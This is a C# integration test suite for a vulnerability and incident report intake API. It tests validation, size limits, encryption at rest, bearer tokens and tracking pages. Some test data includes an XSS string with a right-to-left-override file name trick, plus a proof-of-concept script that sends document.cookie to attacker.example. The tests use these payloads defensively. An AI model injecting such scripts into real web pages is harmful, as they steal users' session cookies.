using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using SirtDesk.Tests.Infrastructure;

namespace SirtDesk.Tests.Intake;

public sealed class ReportApiTests(SirtDeskApp app) : IClassFixture<SirtDeskApp>
{
    [Fact]
    public async Task A_valid_report_gets_201_with_a_tracking_number_and_an_absolute_tracking_url()
    {
        var (number, url) = await app.SubmitReportAsync(SirtDeskApp.VulnerabilityReport());

        Assert.Matches(@"^VR-\d{4}-\d{5}$", number);
        Assert.StartsWith(SirtDeskApp.BaseUrl + "/ja/track/", url, StringComparison.Ordinal);
        var stored = await app.WithDbAsync(db => db.Reports.Include(r => r.Attachments).SingleAsync(r => r.TrackingNumber == number));
        Assert.Equal("ログイン画面のクロスサイトスクリプティング", stored.Title);
        Assert.Equal("psirt", stored.Team);
        // The acknowledgement is in the outbox, written with the report, addressed to the reporter.
        var mail = await app.WithDbAsync(db => db.Outbox.Where(o => o.Recipient == "yamada@example.net").ToListAsync());
        Assert.Contains(mail, m => m.Subject.Contains(number, StringComparison.Ordinal) && m.Body.Contains(url, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Incident_reports_go_to_the_csirt_with_an_IR_number_and_keep_the_detection_time()
    {
        var (number, _) = await app.SubmitReportAsync(new
        {
            kind = "incident",
            language = "en",
            title = "Phishing mail impersonating our support desk",
            description = "Customers received mail asking for their passwords.",
            affectedService = "Kumogawa Cloud",
            detectedAt = "2026-11-20T08:15:00+09:00",
            scope = "About 40 customers",
            indicators = "support-kumogawa.example.org",
            reporter = new { email = "ops@example.org" },
        });

        Assert.Matches(@"^IR-\d{4}-\d{5}$", number);
        var stored = await app.WithDbAsync(db => db.Reports.SingleAsync(r => r.TrackingNumber == number));
        Assert.Equal("csirt", stored.Team);
        Assert.Equal(new DateTimeOffset(2026, 11, 19, 23, 15, 0, TimeSpan.Zero), stored.DetectedAt);
    }

    [Fact]
    public async Task Missing_fields_give_400_with_errors_keyed_by_json_path_in_the_reports_language()
    {
        var ja = await app.Anonymous().PostAsJsonAsync("/api/v1/reports", new { kind = "vulnerability", language = "ja", title = "", description = "x", reporter = new { email = "not-an-address" } });
        var en = await app.Anonymous().PostAsJsonAsync("/api/v1/reports", new { kind = "vulnerability", language = "en", description = "x", reporter = new { } });

        Assert.Equal(HttpStatusCode.BadRequest, ja.StatusCode);
        var jaErrors = (await ja.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors");
        Assert.Equal("件名は必須です。", jaErrors.GetProperty("title")[0].GetString());
        Assert.Equal("メールアドレスの形式が正しくありません。", jaErrors.GetProperty("reporter.email")[0].GetString());
        var enErrors = (await en.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors");
        Assert.Equal("Title is required.", enErrors.GetProperty("title")[0].GetString());
        Assert.Equal("Your e-mail address is required.", enErrors.GetProperty("reporter.email")[0].GetString());
    }

    [Fact]
    public async Task Bad_input_changes_nothing()
    {
        var before = await app.WithDbAsync(db => db.Reports.CountAsync());

        var wrongType = await app.Anonymous().PostAsync("/api/v1/reports", new StringContent("{\"kind\":\"vulnerability\",\"title\":42}", Encoding.UTF8, "application/json"));
        var notJson = await app.Anonymous().PostAsync("/api/v1/reports", new StringContent("<xml/>", Encoding.UTF8, "application/json"));
        var badKind = await app.Anonymous().PostAsJsonAsync("/api/v1/reports", new { kind = "rumour", language = "en", title = "t", description = "d", reporter = new { email = "a@example.org" } });

        Assert.Equal(HttpStatusCode.BadRequest, wrongType.StatusCode);
        Assert.True((await wrongType.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").TryGetProperty("title", out _));
        Assert.Equal(HttpStatusCode.BadRequest, notJson.StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, badKind.StatusCode);
        Assert.Equal(before, await app.WithDbAsync(db => db.Reports.CountAsync()));
    }

    [Fact]
    public async Task A_text_field_over_64_kB_is_refused_per_field_and_an_oversized_body_gets_413()
    {
        var longText = new string('あ', 22_000); // 66,000 bytes in UTF-8
        var tooLong = await app.Anonymous().PostAsJsonAsync("/api/v1/reports", new { kind = "vulnerability", language = "en", title = "t", description = longText, reporter = new { email = "a@example.org" } });
        var huge = await app.Anonymous().PostAsync("/api/v1/reports", new StringContent("{\"description\":\"" + new string('x', 3 * 1024 * 1024) + "\"}", Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, tooLong.StatusCode);
        Assert.Contains("64", (await tooLong.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").GetProperty("description")[0].GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, huge.StatusCode);
    }

    [Fact]
    public async Task Hostile_text_is_stored_verbatim_except_nul()
    {
        const string payload = "<script>alert(1)</script>\u202Egnp.exe\u0001\u0000end";
        var (number, _) = await app.SubmitReportAsync(new { kind = "vulnerability", language = "en", title = payload, description = payload, reporter = new { email = "a@example.org" } });

        var stored = await app.WithDbAsync(db => db.Reports.SingleAsync(r => r.TrackingNumber == number));
        Assert.Equal("<script>alert(1)</script>\u202Egnp.exe\u0001end", stored.Title);
    }

    [Fact]
    public async Task The_proof_of_concept_is_encrypted_at_rest_and_readable_through_the_api()
    {
        var (number, _) = await app.SubmitReportAsync(SirtDeskApp.VulnerabilityReport());
        var sealedPoc = await app.WithDbAsync(db => db.Reports.Where(r => r.TrackingNumber == number).Select(r => r.ProofOfConceptSealed).SingleAsync());
        Assert.DoesNotContain("document.cookie", Encoding.UTF8.GetString(sealedPoc!), StringComparison.Ordinal);

        await app.CreateStaffAsync("api-reader@example.com", "Analyst", "psirt");
        var client = app.Anonymous();
        client.DefaultRequestHeaders.Authorization = new("Bearer", await app.CreateTokenAsync("api-reader@example.com"));
        var report = await client.GetFromJsonAsync<JsonElement>($"/api/v1/reports/{number}");

        Assert.Equal("<script>fetch('https://attacker.example/'+document.cookie)</script>", report.GetProperty("proofOfConcept").GetString());
        Assert.Equal("new", report.GetProperty("status").GetString());
        Assert.Equal("psirt", report.GetProperty("team").GetString());
        Assert.Equal(JsonValueKind.Null, report.GetProperty("caseNumber").ValueKind);
        Assert.Equal("yamada@example.net", report.GetProperty("reporter").GetProperty("email").GetString());
    }

    [Fact]
    public async Task The_report_list_pages_and_filters_by_status_and_needs_a_token()
    {
        await app.SubmitReportAsync(SirtDeskApp.VulnerabilityReport("リスト確認用の報告"));
        await app.CreateStaffAsync("lister@example.com", "Coordinator", "psirt");
        var client = app.Anonymous();

        Assert.Equal(HttpStatusCode.Unauthorized, (await client.GetAsync("/api/v1/reports")).StatusCode);
        client.DefaultRequestHeaders.Authorization = new("Bearer", await app.CreateTokenAsync("lister@example.com"));
        var page = await client.GetFromJsonAsync<JsonElement>("/api/v1/reports?status=new&page=1&pageSize=1");

        Assert.Equal(1, page.GetProperty("items").GetArrayLength());
        Assert.True(page.GetProperty("total").GetInt32() >= 1);
        Assert.All(page.GetProperty("items").EnumerateArray(), i => Assert.Equal("new", i.GetProperty("status").GetString()));
        Assert.Equal(HttpStatusCode.BadRequest, (await client.GetAsync("/api/v1/reports?status=bogus")).StatusCode);
    }

    [Fact]
    public async Task A_locked_out_users_token_stops_working()
    {
        await app.CreateStaffAsync("locked@example.com", "Analyst", "psirt");
        var token = await app.CreateTokenAsync("locked@example.com");
        await app.WithDbAsync(async db =>
        {
            var user = await db.Users.SingleAsync(u => u.Email == "locked@example.com");
            user.LockoutEnd = TimeProvider.System.GetUtcNow().AddDays(1);
            return await db.SaveChangesAsync();
        });
        var client = app.Anonymous();
        client.DefaultRequestHeaders.Authorization = new("Bearer", token);

        Assert.Equal(HttpStatusCode.Unauthorized, (await client.GetAsync("/api/v1/reports")).StatusCode);
    }

    [Fact]
    public async Task Tracking_numbers_are_unique_and_consecutive_under_concurrent_submissions()
    {
        var tasks = Enumerable.Range(0, 40).Select(i => app.SubmitReportAsync(SirtDeskApp.VulnerabilityReport($"同時送信 {i}")));
        var numbers = (await Task.WhenAll(tasks)).Select(r => r.TrackingNumber).ToList();

        Assert.Equal(40, numbers.Distinct().Count());
        var seqs = numbers.Select(n => int.Parse(n[^5..])).Order().ToList();
        Assert.Equal(seqs[0] + 39, seqs[^1]);
    }

    [Fact]
    public async Task The_tracking_page_shows_the_status_in_the_links_language_and_unknown_tokens_get_404()
    {
        var (number, url) = await app.SubmitReportAsync(SirtDeskApp.VulnerabilityReport());
        var path = new Uri(url).AbsolutePath;

        var ja = await app.Anonymous().GetStringAsync(path);
        var en = await app.Anonymous().GetStringAsync(path.Replace("/ja/", "/en/", StringComparison.Ordinal));
        var unknown = await app.Anonymous().GetAsync("/ja/track/not-a-real-token");

        Assert.Contains(number, ja, StringComparison.Ordinal);
        Assert.Contains("受付済み", ja, StringComparison.Ordinal);
        Assert.Contains("Received", en, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
    }

    [Fact]
    public async Task Health_and_openapi_answer()
    {
        Assert.Equal(HttpStatusCode.OK, (await app.Anonymous().GetAsync("/healthz")).StatusCode);
        var openapi = await app.Anonymous().GetFromJsonAsync<JsonElement>("/openapi/v1.json");
        Assert.True(openapi.GetProperty("paths").TryGetProperty("/api/v1/reports", out _));
    }
}
